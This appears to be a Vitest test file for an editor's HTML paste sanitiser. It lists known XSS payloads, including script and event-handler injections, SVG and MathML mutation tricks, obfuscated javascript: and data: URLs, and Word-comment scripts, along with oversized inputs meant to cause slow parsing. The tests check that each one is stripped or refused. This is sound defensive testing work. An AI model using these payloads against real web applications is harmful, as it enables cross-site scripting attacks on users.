import { describe, expect, it } from 'vitest'
import { readBody } from '@shared/document'
import { isFault } from '@shared/errors'
import { cleanClipboard, planClipboard, planPage } from '@shared/import/html'
import { applyPlan } from '@shared/import/text'
import { isHeavy } from '../../../renderer/editor/paste-html'

const many = (count: number, make: (at: number) => string): string => Array.from({ length: count }, (_, at) => make(at)).join('')
const word = '<html xmlns:w="urn:schemas-microsoft-com:office:word"><body>'

/** What must not be in a document: addresses that run, handlers, styles, elements, and the signs that readers of files use among themselves. */
const forbidden = /javascript:|vbscript:|data:text|file:|on(?:error|load|click|focus|toggle|begin)\b|"(?:style|class|srcdoc|id|onclick|src)":"[^"]|<\/?(?:script|svg|math|style|iframe|img|base|meta|object|form)|[\ue7a0-\ue7a5]/i

/** Shapes that got past editors and cleaners of HTML: each holds "aman", which a reader sees. */
const payloads: Readonly<Record<string, string>> = {
  script: '<p>aman<script>alert(1)</script></p>',
  'a handler without quotes': '<p onclick=alert(1) onmouseover="alert`1`">aman</p>',
  'a picture that fails': '<p>aman<img src=x onerror=alert(1) alt="aman"></p>',
  'a drawing with a handler': '<svg onload=alert(1)><desc>x</desc><foreignObject><p>aman</p></foreignObject></svg><p>aman</p>',
  'a drawing that animates an address': '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg><p>aman</p>',
  'formulas that close other elements': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></mglyph></table></mtext></math><p>aman</p>',
  'a form within formulas': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form><p>aman</p>',
  'a comment that ends early': '<p>aman</p><!--><img src=x onerror=alert(1)>-->',
  'a title that ends in a script': '<svg></p><title><a id="</title><img src=1 onerror=alert(1)>"></a></title></svg><p>aman</p>',
  'no-script twice read': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript><p>aman</p>',
  'a template': '<template><p>x</p><script>alert(1)</script></template><p>aman</p>',
  'a style that imports': '<style>@import url(https://jahat.example/a.css); p{background:url(javascript:alert(1))}</style><p style="background:url(https://jahat.example/b)">aman</p>',
  'a base that turns links': '<base href="javascript:alert(1)//"><p><a href="x">aman</a></p>',
  'a page that turns itself': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>aman</p>',
  'objects and frames': '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><iframe srcdoc="<script>alert(1)</script>" src="javascript:alert(1)"></iframe><p>aman</p>',
  'an address with blanks and controls': '<p><a href="java\u0000script:alert(1)">aman</a> <a href="\u0001javascript:alert(1)">b</a> <a href="&#106;avascript&colon;alert(1)">c</a> <a href="jAvAsCrIpT\t:alert(1)">d</a></p>',
  'an address of data': '<p><a href="data:text/html,<script>alert(1)</script>">aman</a><img src="data:image/svg+xml,<svg onload=alert(1)>" alt="foto"></p>',
  'an address on a share that asks for a password': '<p><a href="\\\\jahat.example\\x">aman</a><img src="\\\\jahat.example\\x.png" alt="foto"><img src="//jahat.example/x.png" alt=y></p>',
  'names of properties that are none': '<constructor><p role="constructor" id="__proto__" class="constructor">aman</p><a name="toString" href="#__proto__">1</a><ol type="__proto__" start="constructor"><li>x</li></ol>',
  'conditional comments of Word that hold a script': `${word}<!--[if gte mso 9]><script>alert(1)</script><![endif]--><![if !mso]><script>alert(1)</script><![endif]><p class=MsoNormal>aman</p>`,
  'remarks of Word that hold a script': `${word}<p class=MsoNormal>aman<a class=msocomanchor href="#_msocom_1" onmouseover="alert(1)" language=JavaScript>[A1]</a></p><div style='mso-element:comment-list'><div style='mso-element:comment'><a name="_msocom_1"></a><p><img src=x onerror=alert(1)>catatan</p></div></div>`,
  'signs that readers use among themselves': '<p>aman \ue7a4 0\ue7a5\ue7a40\ue7a5 \ue7a00\ue7a1\ue7a20\ue7a3</p>',
  'a style sheet of classes that runs': `<html><head><meta name="Generator" content="Cocoa HTML Writer"><style>p.p1{font-weight:expression(alert(1));text-decoration:url(javascript:alert(1))}</style></head><body><p class="p1">aman</p></body></html>`,
  'a sender that is a script': '<div data-pre-plain-text="<img src=x onerror=alert(1)>: "><p>aman</p></div>',
  'an emoji that is a script': '<p>aman<img class="emoji" alt="<script>alert(1)</script>" src=x></p>',
  'turned text and NULs': '<p>aman\u202egnp.exe\u202c \u0000\u0007</p>',
}

/** Shapes that cost readers of HTML their time, so long that one whose time grows with the square does not come to their end: the runner's limit is the clock. */
const slow: Readonly<Record<string, () => string>> = {
  'one word of five million letters': () => `<p>${'a'.repeat(5_000_000)}</p>`,
  'a million blanks': () => `<p>a${'\u00a0 '.repeat(500_000)}b</p>`,
  'a style sheet without end': () => `<html><head><meta name="Generator" content="Cocoa HTML Writer"><style>${'.a,'.repeat(1_000_000)}${many(20_000, (at) => `p.p${at}{font-weight:bold}`)}</style></head><body>${many(2_000, (at) => `<p class="p${at}">x</p>`)}</body></html>`,
  'paragraphs of Word within each other': () => `${word}${many(40_000, (at) => `<p class=MsoListParagraph style='mso-list:l${at % 7} level${(at % 9) + 1} lfo1'><span style='mso-list:Ignore'>${at}.</span>x`)}`,
  'struck words and remarks': () => `${word}<p>${many(60_000, (at) => `a <del>b${at}</del> `)}</p>${many(12_000, (at) => `<p>x<a class=msocomanchor href="#_msocom_${at}">[A${at}]</a></p>`)}<div style='mso-element:comment-list'>${many(12_000, (at) => `<div style='mso-element:comment'><a name="_msocom_${at}"></a><p>c${at}</p></div>`)}</div>`,
  'headings by their looks': () => `${word}${many(60_000, (at) => `<p><span style="font-size:${12 + (at % 30)}pt"><b>Kepala ${at}</b></span></p>`)}`,
  'boxes in boxes in a messenger': () => `<div data-pre-plain-text="[1] A: ">`.repeat(390) + 'aman',
  'lines of a printed page': () => many(120_000, (at) => `<span>kata ${at} dan kata yang lain lagi di baris ini juga</span><br role="presentation">`),
  'quotation marks that open and open': () => `<p>${'“‘«'.repeat(300_000)}</p>`,
  'a hundred and fifty thousand rows': () => `<table>${many(150_000, (at) => `<tr><td>b${at}`)}`,
  'a hundred and fifty thousand parts of one line': () => `<p><span>${'<i>x</i>'.repeat(150_000)}</span>${'<br>'.repeat(150_000)}y`,
  'numbers in letters without end': () => `${word}${many(40_000, (at) => `<p style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>${'x'.repeat(at % 50)}.</span>x</p>`)}`,
}

describe('a hostile paste', () => {
  it.each(Object.keys(payloads))('with %s brings its words and nothing that runs, in the page and in an import [18.3]', (name) => {
    const { content } = cleanClipboard(payloads[name]!, 'clipboard')
    readBody({ type: 'doc', content: [...content] })
    const options = { origin: 'a.html', now: '2026-11-23T07:00:00Z' }
    const [first, second] = [planClipboard(payloads[name]!, options), planPage(payloads[name]!, { ...options, isPicked: true })].map((plan) => applyPlan(plan, new Map()))
    for (const told of [content, [first!.article.body, first!.article.headline], [second!.article, second!.removed]]) {
      expect(JSON.stringify(told)).toContain('aman')
      const attrs: unknown[] = []
      JSON.stringify(told, (key, value: unknown) => {
        if (key === 'attrs') attrs.push(value)
        return value
      })
      expect(JSON.stringify(attrs)).not.toMatch(forbidden)
      expect(JSON.stringify(told)).not.toMatch(/[\ue7a0-\ue7a5\u0000-\u0008]/)
    }
  })

  it.each(Object.keys(slow))('with %s is read, or refused in a sentence, in time [18.4]', (name) => {
    const html = slow[name]!()
    try {
      const { content } = cleanClipboard(html, 'clipboard')
      readBody({ type: 'doc', content: [...content] })
    } catch (error) {
      expect(isFault(error) && error.code).toBe('tooLarge')
    }
  }, 120_000)

  it.each([
    ['rows of a table', () => `<table>${many(60_000, (at) => `<tr><td>b${at}<td>c`)}`],
    ['items of a list', () => `<ul>${many(60_000, (at) => `<li>b${at}`)}`],
    ['letters of one paragraph', () => `<p>${'kata '.repeat(2_100_000)}</p>`],
  ])('with more %s than an article holds ends in a sentence that tells the limit [18.4]', (_name, make) => {
    const refused = (): unknown => cleanClipboard(make(), 'the clipboard')
    expect(refused).toThrow(/^the clipboard is too large \(> .+; the limit is (?:50000 ¶|2 MB)\)\. Split it and import the parts\.$/)
  })

  it('is cleaned beside the window where it is long or dense with tags', () => {
    expect(['<p>aman</p>', '<b>'.repeat(5_001), 'a'.repeat(100_001)].map(isHeavy)).toEqual([false, true, true])
  })
})
